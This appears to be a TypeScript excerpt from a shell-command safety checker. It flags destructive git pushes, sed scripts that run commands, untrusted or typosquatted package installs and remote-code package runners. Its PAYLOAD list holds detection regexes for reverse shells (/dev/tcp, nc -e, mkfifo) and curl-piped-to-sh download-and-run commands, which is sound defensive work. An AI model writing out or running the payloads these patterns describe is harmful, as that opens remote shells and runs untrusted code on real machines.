  if (destructive) add(ctx, sc, 'ask', 'git.push_destructive', `git push ${destructive} rewrites or deletes history on the remote`, cmd.start, cmd.end);
}

function sedCmd(ctx: Ctx, sc: Scope, cmd: Cmd, args: readonly Word[], writes: Word[]): void {
  const scripts: Word[] = [];
  let explicit = false;
  for (let i = 0; i < args.length; i++) {
    const v = args[i]!.value ?? '';
    if ((v === '-e' || v === '--expression') && args[i + 1]) {
      scripts.push(args[i + 1]!);
      explicit = true;
      i++;
    } else if ((v === '-f' || v === '--file') && args[i + 1]) {
      const f = args[i + 1]!.value ?? '';
      if (/^(-|\/dev\/stdin|\/dev\/fd\/\d+|\/proc\/self\/fd\/\d+)$/.test(f) || args[i + 1]!.value === null) {
        const s = describeStdin(ctx, cmd.stdin);
        if (s.kind === 'text') scripts.push({ ...args[i + 1]!, value: s.text, raw: s.text });
        else add(ctx, sc, 'ask', 'exec.sed_script', 'sed reads its script from standard input (GNU sed scripts can run commands)', cmd.start, cmd.end);
      }
      explicit = true;
      i++;
    }
  }
  if (!explicit) {
    const first = positionals(args)[0];
    if (first) scripts.push(first);
  }
  for (const s of scripts) {
    const t = s.value ?? s.raw;
    // GNU sed `e` command / `s///e` flag run shell commands; `w file` writes files.
    if (sedExecCommand(t) || sedSubstituteExec(t, () => checkDeadline(ctx))) {
      add(ctx, sc, 'deny', 'exec.sed_script', `sed script executes shell commands ("${truncate(t, 40)}")`, s.start, s.end);
    }
  }
  void writes;
}

function damerau1(a: string, b: string): boolean {
  if (a === b) return false;
  const la = a.length;
  const lb = b.length;
  if (la === lb) {
    // One substitution, or one swap of neighbours.
    let first = -1;
    let second = -1;
    for (let i = 0; i < la; i++) {
      if (a.charCodeAt(i) === b.charCodeAt(i)) continue;
      if (first < 0) first = i;
      else if (second < 0) second = i;
      else return false;
    }
    if (second < 0) return true;
    return second === first + 1 && a[first] === b[second] && a[second] === b[first];
  }
  if (la - lb > 1 || lb - la > 1) return false;
  // One insertion/deletion: skip the first differing character of the longer one.
  const [s, l] = la < lb ? [a, b] : [b, a];
  let i = 0;
  while (i < s.length && s.charCodeAt(i) === l.charCodeAt(i)) i++;
  for (let j = i; j < s.length; j++) if (s.charCodeAt(j) !== l.charCodeAt(j + 1)) return false;
  return true;
}

function packageInstall(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[]): void {
  const sub = positionals(args)[0]?.value ?? '';
  // `run` installs only for pipx (`pipx run pkg`); `npm/yarn/pnpm/bun run x` runs a project script
  // and `uv/poetry run x` a command in the project's environment, so their argument is not a package.
  const installing = /^(install|add|i|sync|tool|x|dlx)$/.test(sub) || (sub === 'run' && name === 'pipx') || name === 'uvx';
  if (!installing && !args.some((a) => /^--(index-url|extra-index-url|registry|find-links|trusted-host)/.test(a.value ?? ''))) return;
  for (let i = 0; i < args.length; i++) {
    const a = args[i]!;
    const v = a.value ?? a.raw;
    const flag = /^(-i|--index-url|--extra-index-url|--registry|-f|--find-links|--trusted-host|--index|--default-index)(=(.*))?$/.exec(v);
    if (flag) {
      const url = flag[3] ?? args[i + 1]?.value ?? '';
      if (!/^https:\/\/(pypi\.org|files\.pythonhosted\.org|registry\.npmjs\.org|registry\.yarnpkg\.com|download\.pytorch\.org)\b/.test(url)) {
        add(ctx, sc, 'ask', 'supply_chain.untrusted_index', `${name} installs from a non-default package index (${truncate(url, 50)})`, a.start, a.end);
      }
      continue;
    }
    if (isOpt(a)) continue;
    if (/^(git\+|hg\+|svn\+|bzr\+)|^(https?|ftp):\/\/|^github:|^git@|^[\w.-]+\/[\w.-]+#/.test(v) && !/^(git\+)?https:\/\/(pypi|files\.pythonhosted)/.test(v)) {
      add(ctx, sc, 'ask', 'supply_chain.direct_url', `${name} installs a package straight from a URL or repository (${truncate(v, 50)})`, a.start, a.end);
      continue;
    }
    const pkg = v.replace(/([<>=!~;[ ].*|@[^/]*$)/, '').toLowerCase();
    if (pkg.length >= 5 && !POPULAR_PACKAGES.has(pkg) && !NOT_TYPOSQUATS.has(pkg) && /^[a-z0-9._-]+$/.test(pkg)) {
      for (const p of POPULAR_PACKAGES) {
        if (p.length >= 5 && damerau1(pkg, p)) {
          add(ctx, sc, 'ask', 'supply_chain.typosquat', `${name} installs "${pkg}", one typo away from the popular "${p}"`, a.start, a.end);
          break;
        }
      }
    }
  }
}

/** `uvx CMD`, `pipx run CMD`, `nix run PKG -- ARGS`, …: the program the runner runs is judged as a command; code from a URL asks. */
function packageRunner(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[], writes: Word[], chain: string[]): void {
  const remote = remoteRunnerCode(name, args);
  if (remote) add(ctx, sc, 'ask', 'supply_chain.direct_url', `${remote.label} runs code fetched from the network (${truncate(remote.word.value ?? remote.word.raw, 50)})`, remote.word.start, remote.word.end);
  const run = runnerArgv(name, args);
  if (!run) return;
  if (run.head.value === null) {
    checkCommandWord(ctx, sc, cmd, run.head);
    return;
  }
  analyzeArgv(ctx, sc, cmd, run.head.value, run.head, run.rest, writes, [...chain, run.label]);
}

/** `uv run X`, `poetry run X`, `npm exec X`, `bundle exec X`: the rest is a command. */
function runSubcommand(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[], writes: Word[], chain: string[]): void {
  const idx = args.findIndex((a) => !isOpt(a));
  const sub = args[idx]?.value ?? '';
  if (!(sub === 'run' && /^(uv|poetry|pipenv|pdm|hatch|conda)$/.test(name)) && !(sub === 'exec' && /^(bundle|npm|pnpm|yarn)$/.test(name)) && !(name === 'uvx' || name === 'pipx' && sub === 'run')) return;
  const rest = args.slice(idx + 1);
  const at = skipOpts(rest, /^(--with|-w|--python|-p|-n|--name|--prefix|--env|-e|--from|--directory|--project|--package|--extra|--group|--index)$/);
  if (name === 'uvx' || name === 'pipx') return;
  unwrap(ctx, sc, cmd, rest, at, writes, chain, `${name} ${sub}`);
}

const WRITERS = new Set(['echo', 'printf', 'cat', 'tee', 'sed', 'gsed', 'perl', 'awk', 'cp', 'install']);
// Shell payloads that have no business being written into files.
const PAYLOAD = [
  /\b(curl|wget)\b[^\n|;]*\|\s*(sudo\s+)?(ba|z|da|k)?sh\b/,
  /\/dev\/(tcp|udp)\//,
  /\b(nc|ncat|netcat)\b[^\n]*\s-[a-z]*[ec]\s/,
  /\b(base64|base32|xxd)\b[^\n|]*(-d|--decode|-r)[^\n|]*\|\s*(ba|z)?sh\b/,
  /\b(ba)?sh\s+-i\s*[<>]/,
  /\bmkfifo\b[^\n]*\b(nc|sh)\b/,
];
const PERSISTENCE_RULES = /^(persistence\.|privesc\.system_files|fs\.write_system)/;

/** Content written into files (echo/printf text, heredocs, sed scripts) that carries a shell payload. */
function checkPayload(ctx: Ctx, sc: Scope, cmd: Cmd, name: string, args: readonly Word[], targets: readonly Word[]): void {
  const parts: string[] = args.map((a) => a.value ?? a.raw);
  const stdin = describeStdin(ctx, cmd.stdin);
  if (stdin.kind === 'text') parts.push(stdin.text);
  const content = parts.join('\n').replace(/\\n/g, '\n').replace(/\\t/g, '\t');
  // Every PAYLOAD pattern needs one of these words.
  if (!content.includes('sh') && !content.includes('/dev/') && !content.includes('nc') && !content.includes('netcat')) return;
  if (!PAYLOAD.some((re) => re.test(content))) return;
  const persistent = ctx.findings.some((f) => PERSISTENCE_RULES.test(f.rule) && targets.some((t) => (sc.outer ? f.start === sc.outer.start : f.start === t.start)));
  add(ctx, sc, persistent ? 'deny' : 'ask', 'persistence.payload_write', `${name} writes a shell payload (download-and-run, reverse shell) into ${truncate(targets.map((t) => t.raw).join(', '), 50)}`, cmd.start, cmd.end);
}

function truncate(s: string, n: number): string {
  const one = s.replace(/\s+/g, ' ');
  return one.length > n ? one.slice(0, n - 1) + '…' : one;
}
